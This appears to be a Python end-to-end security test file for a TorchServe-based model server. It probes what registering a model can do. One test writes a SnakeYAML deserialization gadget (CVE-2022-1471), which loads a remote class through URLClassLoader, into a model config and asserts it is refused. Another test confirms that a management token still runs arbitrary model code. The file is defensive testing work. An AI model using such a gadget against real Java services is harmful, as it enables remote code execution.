"""Attacks where models may be registered: what a model cannot do, and what a management token still can."""

from __future__ import annotations

import json
from pathlib import Path

import grpc
import pytest

from densenet_serving.build.archives import MANIFEST
from densenet_serving.client.http import Client
from densenet_serving.errors import ApiError
from densenet_serving.server import torchserve
from tests.e2e.attacks import grpc_status, write_code
from tests.local_server import LocalServer
from tests.waiting import until


def name_in_manifest(folder: Path, key: str, file: str, content: str) -> None:
    """Write a file into a model's folder, and its name into the manifest."""
    manifest = json.loads((folder / MANIFEST).read_text())
    manifest["model"][key] = file
    (folder / MANIFEST).write_text(json.dumps(manifest))
    (folder / file).write_text(content)


def test_a_models_settings_load_no_java_class(client: Client, local: LocalServer, tmp_path: Path) -> None:
    """CVE-2022-1471: SnakeYAML before 2.0 would fetch code from this address and run it."""
    folder = write_code(tmp_path / "yaml", "yaml")
    gadget = f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{local.url}/"]]]]'
    name_in_manifest(folder, "configFile", "model-config.yaml", f"minWorkers: {gadget}\n")
    try:
        with pytest.raises(ApiError):
            client.register(str(folder))
        assert local.asked == []
    finally:
        if client.versions("yaml"):
            client.unregister("yaml")


def test_an_archive_installs_no_packages(client: Client, tmp_path: Path) -> None:
    """Where packages are installed, one that is nowhere makes the registration fail."""
    folder = write_code(tmp_path / "greedy", "greedy")
    name_in_manifest(folder, "requirementsFile", "requirements.txt", "/nowhere/at-all\n")
    try:
        client.register(str(folder), initial_workers=0)
        assert [model["workers"] for model in client.versions("greedy")] == [[]]
    finally:
        client.unregister("greedy")


@pytest.mark.parametrize("over", ["http", "grpc"])
def test_where_models_may_be_registered_a_management_token_runs_any_code(
    client: Client, running: torchserve.Server, tmp_path: Path, over: str
) -> None:
    """What remains without --fixed-models: allowed_urls does not apply to a bare folder. Should this fail, TorchServe's
    behaviour has changed, and docs/security.md has to.
    """
    name = f"folder_{over}"
    folder = write_code(tmp_path / name, name)
    try:
        if over == "http":
            client.register(str(folder))
        else:
            token = f"Bearer {running.endpoint.token('management')}"
            assert grpc_status(running.endpoint, "management", token, folder) == grpc.StatusCode.OK
        until((folder / "ran").exists)  # over gRPC the call returns before a worker has started
    finally:
        client.unregister(name)
